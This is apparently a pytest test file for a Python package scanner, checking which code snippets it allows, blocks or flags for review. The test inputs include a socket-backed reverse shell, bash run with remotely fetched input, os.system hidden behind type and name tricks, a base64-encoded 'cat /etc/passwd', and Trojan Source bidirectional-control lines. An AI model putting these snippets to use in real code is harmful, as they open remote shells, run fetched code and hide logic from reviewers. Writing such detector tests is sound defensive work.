"""What source only holds, plans or sets up is no act; what looks like that and acts, is."""

# ruff: noqa: E501 - source inside source reads best as it is written

from __future__ import annotations

import pytest
from tests.samples.dists import wheel
from tests.samples.vetting import judged, report_on

from weighmaster.knowledge.source.disguises import disguises
from weighmaster.knowledge.source.sources import Reading
from weighmaster.model.report import Report
from weighmaster.model.where import Where
from weighmaster.reading.python.source import parsed_below

_TASK = (
    "import os\nfrom airflow.sdk import task\n@task(executor_config={})\ndef probe():\n    os.system('cat /shared/t')\n"
)
_EITHER = "import os\ntry:\n    from airflow.sdk import task\nexcept ImportError:\n    {other}\n@task\ndef probe():\n    os.system('id')\nprobe()\n"
_SENT = "import os, subprocess, requests\ndef run(path, url, args):\n    env = {**os.environ, 'CONFIG': requests.get(url).text}\n"

_SHOWN = """import base64, os, subprocess, tempfile
class Shell:
    def show(self, data, mime):
        raw = base64.decodebytes({data})
        with tempfile.TemporaryDirectory() as folder:
            p = os.path.join(folder, self.name(mime))
            with open(p, 'wb') as file:
                file.write(raw)
            return subprocess.call({command})
"""


@pytest.mark.parametrize(
    "source",
    [
        pytest.param(
            "import socket, subprocess\nfrom typing import TypeVar\nTracked = TypeVar('Tracked', socket.socket, subprocess.Popen)\n",
            id="a type variable of processes",
        ),
        pytest.param(
            "import subprocess, typing\nChild = typing.NewType('Child', subprocess.Popen)\ndef f(x):\n    return typing.cast(subprocess.Popen, Child(x))\n",
            id="a new type of processes",
        ),
        pytest.param(f"{_TASK}done = probe()\n", id="a task of Airflow"),
        pytest.param(_EITHER.format(other="from airflow.decorators import task"), id="a task of any Airflow"),
        pytest.param(
            "import socket, subprocess\ndef run(command):\n    a, b = socket.socketpair()\n    subprocess.Popen([*command, '--x'], stdout=b.fileno())\n",
            id="a pair of sockets",
        ),
        pytest.param(f"{_SENT}    os.execvpe(path, list(args), dict(env))\n", id="settings that are fetched, to exec"),
        pytest.param(f"{_SENT}    subprocess.run([path, *args], env=dict(env), check=False)\n", id="settings to run"),
        pytest.param(
            _SHOWN.format(data="data[mime].encode()", command="[s.format(file=p) for s in self.viewer]"), id="a viewer"
        ),
        pytest.param(
            "import ctypes\ndef f():\n    return vars(ctypes)['WinDLL']('kernel32', use_last_error=True)\n",
            id="a name that ctypes has on Windows only",
        ),
    ],
)
def test_what_is_held_planned_or_set_up_is_allowed(source: str) -> None:
    assert judged(report_on(source.encode(), "m.py")) == "allow"
    assert judged(_in_package(source)) == "allow"


@pytest.mark.parametrize(
    "source",
    [
        pytest.param(
            "import os\nfrom typing import TypeVar\nT = TypeVar('T', os.system, int)\nT.__constraints__[0]('true')\n",
            id="called as a constraint",
        ),
        pytest.param(
            "import os, typing\ntyping.NewType('T', os.system).__supertype__('true')\n", id="called as a supertype"
        ),
        pytest.param("import os, typing\ntyping.NewType('T', int)(os.system)('true')\n", id="passed through a type"),
        pytest.param("import os, typing\ntyping.cast(int, os.system)('true')\n", id="passed through a cast"),
        pytest.param(f"{_TASK}probe.function()\n", id="the function of a task"),
        pytest.param(f"{_TASK}probe.__wrapped__()\n", id="what a task wraps"),
        pytest.param(_EITHER.format(other="task = lambda f: f"), id="a task that is none"),
        pytest.param(_TASK.replace("airflow.sdk", ".sdk") + "probe()\n", id="a task of its own"),
    ],
)
def test_what_is_called_all_the_same_is_caught(source: str) -> None:
    assert judged(report_on(source.encode(), "m.py")) == "block"
    assert judged(_in_package(source)) == "block"


@pytest.mark.parametrize(
    "source",
    [
        pytest.param(f"{_SENT}    os.execvpe(path, [requests.get(url).text], env)\n", id="arguments that are fetched"),
        pytest.param(f"{_SENT}    subprocess.run([path], input=requests.get(url).content, env=env)\n", id="its input"),
        pytest.param(
            "import subprocess, requests\ndef run(url):\n    subprocess.run(['bash'], env=requests.get(url).json())\n",
            id="all of an environment",
        ),
        pytest.param(
            "import socket, subprocess\ndef run(host):\n    s = socket.create_connection((host, 1))\n    subprocess.Popen(['sh'], stdin=s.fileno(), stdout=s.fileno())\n",
            id="a connection",
        ),
        pytest.param(_SHOWN.format(data="data[mime].encode()", command="[p]"), id="a file of what is decoded"),
        pytest.param(_SHOWN.format(data="data[mime]", command="p"), id="a file of what is decoded, alone"),
        pytest.param(_SHOWN.format(data="data[mime]", command="[s.format(p) for s in ['{}']]"), id="a list of its own"),
        pytest.param(
            _SHOWN.format(data="'Y2F0IC9ldGMvcGFzc3dk'", command="[s.format(file=p) for s in self.viewer]"),
            id="a file of what stands here",
        ),
        pytest.param(
            _SHOWN.format(data="open('x.dat').read()", command="[s.format(file=p) for s in self.viewer]"),
            id="a file of what another file holds",
        ),
        pytest.param("import os\ndef f(x):\n    vars(os)['system'](x)\n", id="a name of os by a text"),
        pytest.param("import ctypes\ndef f():\n    vars(ctypes)['Win' + 'DLL']('kernel32')\n", id="a name in pieces"),
    ],
)
def test_what_is_fetched_or_hidden_and_run_later_is_told_of(source: str) -> None:
    assert judged(report_on(source.encode(), "m.py")) != "allow"
    assert judged(_in_package(source)) != "allow"


def _in_package(source: str) -> Report:
    return report_on(wheel("kit", "1.0", {"kit/__init__.py": source}), "kit-1.0-py3-none-any.whl")


_LIBRARY = "import ctypes\nfrom ctypes.util import find_library\nlib = ctypes.CDLL({})\n"


@pytest.mark.parametrize(
    ("library", "expected"),
    [
        ("find_library('Security')", "allow"),
        ("find_library('CoreServices')", "allow"),
        ("find_library('Foundation')", "allow"),
        ("find_library('C:\\\\evil.dll')", "review"),
        ("find_library('evil')", "review"),
        ("__file__ + '.dat'", "review"),
    ],
)
def test_libraries_that_the_system_brings_may_be_loaded_when_python_starts(library: str, expected: str) -> None:
    files = {"kit/__init__.py": _LIBRARY.format(library)}
    report = report_on(wheel("kit", "1.0", files, entry_points="[pytest11]\nkit = kit\n"), "kit-1.0-py3-none-any.whl")
    assert judged(report) == expected


_LINE = "    if level != 'none\u202e\u2066': # check \u2069\u2066' and level != 'user'"


def _told(text: str, lines: int = 0) -> int:
    return sum(1 for _ in disguises(text, parsed_below(text, lines), Where.file("m.py"), below=lines))


@pytest.mark.parametrize("lines", [0, 7])
@pytest.mark.parametrize(
    ("text", "told"),
    [
        pytest.param(f'r"""\nShows:\n\n{_LINE}\n\nEnd.\n"""\nimport os\n', 0, id="an example in prose"),
        pytest.param(f'def f():\n    """\u00e4\n{_LINE}\n    """\n', 0, id="an example in a function"),
        pytest.param(f'"""\n{_LINE}\n"""  ;"""\n{_LINE}\n"""\n', 0, id="two texts"),
        pytest.param(f"'''\n{_LINE}\n'''\n", 1, id="quotes of the kind"),
        pytest.param(f'"""\n{_LINE}""";x = 1\n', 1, id="the last line"),
        pytest.param(f'"""a\u202e\n{_LINE[:8]}\n"""\n', 1, id="the first line"),
        pytest.param('("""\n""" #\n"a" #\u202e\n"""\n""")\n', 1, id="between texts that follow each other"),
        pytest.param(f'x = """\n{_LINE}\n"""\n', 1, id="a text that is used"),
        pytest.param(f'"""\n\u2028{_LINE}\n"""\n', 1, id="lines that Python does not count"),
        pytest.param(f'"""\n\\"""\n{_LINE}\n"""\n', 1, id="quotes in the text"),
        pytest.param(f'"""\nx\n"""\n#{_LINE}\n', 1, id="a remark"),
    ],
)
def test_only_the_middle_of_prose_may_hold_controls_of_direction(text: str, told: int, lines: int) -> None:
    assert _told(text, lines) == told


def test_lines_of_prose_are_counted_in_each_cell() -> None:
    reading = Reading(Where.file("m.py"), lambda: None)
    reading.read("x = 1\ny = 2\n")
    reading.read(f'"""\n{_LINE}\n"""\n')
    reading.read(f"# {_LINE}\n")
    assert [
        getattr(fact, "line", 0) for fact in reading.facts() if getattr(fact, "name", "") == "reorders-its-text"
    ] == [1]
